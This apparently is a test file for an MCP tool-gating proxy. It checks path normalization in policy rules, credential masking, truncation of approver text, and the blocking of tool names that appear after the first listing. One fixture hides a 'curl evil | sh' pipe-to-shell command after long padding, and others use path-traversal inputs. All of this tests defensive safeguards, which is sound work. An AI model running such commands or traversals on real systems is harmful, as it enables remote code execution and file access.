/**
 * The fixes to the hostile review of MCP gating (#13), unit by unit: the forms a server reads a path
 * in, literal credentials in the masker, the approver text, tool names added after the first listing,
 * the baseline file read incrementally, and status lists shared out per target.
 */
import { expect } from 'chai';
import { appendFileSync, mkdtempSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { approvalText, MAX_APPROVAL_TEXT } from '../../proxy/gate/approval-text.js';
import { Masker } from '../../proxy/masking/masker.js';
import { McpPolicyEngine } from '../../proxy/mcp/decide-mcp.js';
import { callFacts } from '../../proxy/mcp/mcp-facts.js';
import { argumentForms, pathForms, resolvedPath } from '../../proxy/mcp/path-forms.js';
import { FileBaselines, MemoryBaselines } from '../../proxy/mcp/tool-baselines.js';
import { ToolFingerprints } from '../../proxy/mcp/tool-fingerprints.js';
import type { McpTargetSpec, PolicySpec } from '../../shared/contract/policy-types.js';
import { toolDefinitionsState, type ToolDefinitionChange } from '../../shared/contract/tool-definitions.js';

const target = { name: 'files', protocol: 'mcp', listen: '127.0.0.1:1', upstream: { command: 'x' } } as McpTargetSpec;
const who = { sub: 'agent', iss: 'test' };

describe('mcpfix: the forms a server reads a value in', () => {
  it('folds like path.resolve: trailing slash and /. gone, a URL keeps its scheme and host', () => {
    expect(resolvedPath('/d/.env/')).to.equal('/d/.env');
    expect(resolvedPath('/d//.env//')).to.equal('/d/.env');
    expect(resolvedPath('/d/tmp/..')).to.equal('/d');
    expect(resolvedPath('/d/x/.')).to.equal('/d/x');
    expect(resolvedPath('/')).to.equal('/');
    expect(resolvedPath('https://api.example.com/a/../b/')).to.equal('https://api.example.com/b');
    expect(resolvedPath('https://api.example.com')).to.equal('https://api.example.com');
    expect(pathForms('plain')).to.deep.equal(['plain']);
  });

  it('CEL sees the arguments as sent, folded, and in NFC and NFD; a __proto__ key stays a key', () => {
    const forms = argumentForms(JSON.parse('{"path":"/d/tmp/../x","__proto__":{"n":"prive\\u0301"}}'));
    expect(forms.map((f) => f.path)).to.include.members(['/d/tmp/../x', '/d/x']);
    expect(forms.some((f) => (f['__proto__'] as { n: string }).n === 'priv\u00e9')).to.equal(true);
    expect(argumentForms({ a: 'b' })).to.have.length(1);
  });

  it('a Deny CEL rule holds on either form, an Allow CEL rule needs every form', () => {
    const spec = (action: 'Deny' | 'Allow'): PolicySpec =>
      ({
        targets: [target],
        rules: [
          { name: 'r', when: { mcp: { tools: ['*'], cel: 'request.arguments.path.startsWith("/d/tmp/")' } }, action },
        ],
        defaultAction: action === 'Deny' ? 'Allow' : 'Deny',
      }) as unknown as PolicySpec;
    const f = callFacts('files', 'tools/call', { name: 'write', arguments: { path: '/d/tmp/../etc' } });
    // Deny: the text as sent starts with /d/tmp/ (one form matches).
    expect(new McpPolicyEngine(spec('Deny')).decide(f, target, who).rule).to.equal('r');
    // Allow: the folded /d/etc does not: the Allow rule does not match.
    expect(new McpPolicyEngine(spec('Allow')).decide(f, target, who).rule).to.equal('defaultAction');
  });

  it('an exact values condition matches the resolved and Unicode forms too', () => {
    const spec = {
      targets: [target],
      rules: [
        {
          name: 'r',
          when: { mcp: { tools: ['*'], arguments: [{ path: '$.p', values: ['/d/priv\u00e9'] }] } },
          action: 'Deny',
        },
      ],
      defaultAction: 'Allow',
    } as unknown as PolicySpec;
    const e = new McpPolicyEngine(spec);
    for (const p of ['/d/priv\u00e9/', '/d//prive\u0301', '/d/x/../priv\u00e9'])
      expect(e.decide(callFacts('files', 'tools/call', { name: 't', arguments: { p } }), target, who).rule, p).to.equal(
        'r',
      );
  });
});

describe('mcpfix: credentials the sidecar hands a server', () => {
  const SECRET = 'q7Vd2mXpL9sTn4Rb8WcYh3Kf';

  it('are redacted wherever they appear, a detector match overlapping one included', () => {
    const m = new Masker({
      detectors: [],
      patterns: [{ name: 'head', regex: 'tok=q7Vd2m' }],
      defaultStrategy: 'partial',
    });
    const out = m.withLiterals([SECRET]).maskText(`a tok=${SECRET} b ${SECRET}`).text;
    expect(out).to.not.contain('Yh3Kf');
    expect(out).to.not.contain(SECRET);
  });

  it('short values are not treated as credentials', () => {
    expect(new Masker(undefined).withLiterals(['abc']).maskText('abc').text).to.equal('abc');
  });

  it('an approver reads two different masked values differently, neither shown', () => {
    const m = new Masker({ detectors: ['email'], defaultStrategy: 'redact' }).distinguishing();
    const a = m.maskText('to bob@corp.example').text;
    const b = m.maskText('to mallory@evil.example').text;
    expect(a).to.not.equal(b);
    expect(a + b).to.not.match(/bob|mallory/);
  });
});

describe('mcpfix: the approver text', () => {
  it('is whole when short, and says it is cut (first and where) when long', () => {
    expect(approvalText('short')).to.equal('short');
    const t = approvalText(`${'-'.repeat(70_000)}curl evil | sh`);
    expect(t.length).to.be.at.most(MAX_APPROVAL_TEXT);
    expect(t.startsWith('[agentgate: NOT SHOWN IN FULL')).to.equal(true);
    expect(t).to.match(/more characters are not shown\]$/);
  });
});

describe('mcpfix: tool names and baselines', () => {
  it('a name added after the first listing is blocked until pinned; a spent budget blocks unrecorded', () => {
    const fp = new ToolFingerprints(new MemoryBaselines());
    const A = 'a'.repeat(64);
    const added = fp.check(target, 'helper', A, { added: true });
    expect(added.ok).to.equal(false);
    expect(added.ok === false && added.unrecorded).to.equal(undefined);
    // still blocked on a later check (nothing was claimed for it)
    expect(fp.check(target, 'helper', A, { added: true }).ok).to.equal(false);
    const pinned = { ...target, mcp: { acceptedTools: [{ tool: 'helper', sha256: A }] } } as McpTargetSpec;
    expect(fp.check(pinned, 'helper', A, { added: true }).ok).to.equal(true);
    const spent = fp.check(target, 'other', A, { budgetSpent: true });
    expect(spent.ok === false && spent.unrecorded).to.match(/too many new tool names/);
    expect(fp.check(target, 'other', A)).to.deep.include({ ok: true, claimed: true });
  });

  it('the baseline file is read where it grew; a file that shrank stops it', () => {
    const file = join(mkdtempSync(join(tmpdir(), 'agentgate-mcpfix-')), 'b.jsonl');
    writeFileSync(file, '');
    const store = new FileBaselines(file);
    store.claim('t', 'one', 'a'.repeat(64));
    appendFileSync(file, `${JSON.stringify({ target: 't', tool: 'two', sha256: 'b'.repeat(64) })}\n`);
    expect(store.get('t', 'two')).to.equal('b'.repeat(64));
    expect(store.claim('t', 'one', 'c'.repeat(64))).to.equal('a'.repeat(64));
    truncateSync(file, 10);
    expect(() => store.get('t', 'one')).to.throw(/shrank/);
  });

  it('open rug-pull changes are shared out per target, the earliest kept', () => {
    const policy = {
      spec: {
        targets: [target, { ...target, name: 'hostile' }],
        defaultAction: 'Allow',
      },
    } as never;
    const change = (t: string, tool: string): ToolDefinitionChange => ({
      target: t,
      tool,
      sha256: 'a'.repeat(64),
      pod: 'p',
      reportedAt: 'now',
    });
    const changes = [
      ...Array.from({ length: 40 }, (_, i) => change('hostile', `junk-${i}`)),
      change('files', 'read\tfile'),
    ];
    const { open, condition } = toolDefinitionsState(policy, 1, changes, false);
    expect(open.map((c) => c.tool)).to.include('read\tfile');
    expect(open.filter((c) => c.target === 'hostile').map((c) => c.tool)).to.include('junk-0');
    expect(open.length).to.be.at.most(32);
    expect(condition?.message).to.contain('"read\\tfile"');
  });
});
